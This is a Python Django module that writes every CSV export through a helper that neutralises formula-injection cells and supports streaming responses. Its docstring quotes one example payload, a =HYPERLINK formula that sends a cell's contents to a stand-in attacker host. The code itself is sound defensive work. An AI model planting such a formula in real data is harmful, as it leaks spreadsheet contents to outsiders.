"""The one CSV writer: every CSV the hub writes goes through it.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some
with a leading tab or carriage return) as a formula, so a ticket subject such as
``=HYPERLINK("http://evil.example/?"&A1)`` would become a live link in someone's
export (CSV injection, OWASP). Text cells starting with one of those characters
get a leading ``'``, which spreadsheets show as text. Numbers (``int``, ``float``,
``Decimal``) stay numbers: a negative *number* is not a formula, a *string*
``"-1+1"`` is.

``csv_response`` builds a small file in memory; ``streaming_csv_response`` writes
rows as they come from an iterator (``queryset.iterator()``), so a large export
never sits in memory whole.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse

DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPE = "text/csv; charset=utf-8"


def safe_cell(value) -> object:
    """A value as it should be written: numbers unchanged, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(DANGEROUS_PREFIXES):
        return "'" + text
    return text


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """``csv.writer`` with every cell passed through ``safe_cell``."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, **options) -> SafeWriter:
    return SafeWriter(file, **options)


def _disposition(filename: str) -> str:
    return f'attachment; filename="{filename}"'


def csv_response(filename: str) -> tuple[HttpResponse, SafeWriter]:
    """An attachment response and the safe writer that fills it."""
    response = HttpResponse(content_type=CONTENT_TYPE)
    response["Content-Disposition"] = _disposition(filename)
    return response, writer(response)


class _Echo:
    """A file-like object whose ``write`` hands the line back (for streaming)."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable | None, rows: Iterable[Iterable]):
    """The CSV text, line by line (header first when given)."""
    out = writer(_Echo())
    if header is not None:
        yield out.writerow(header)
    for row in rows:
        yield out.writerow(row)


def streaming_csv_response(
    filename: str, header: Iterable | None, rows: Iterable[Iterable]
) -> StreamingHttpResponse:
    """An attachment streamed row by row from ``rows`` (an iterator)."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type=CONTENT_TYPE)
    response["Content-Disposition"] = _disposition(filename)
    return response
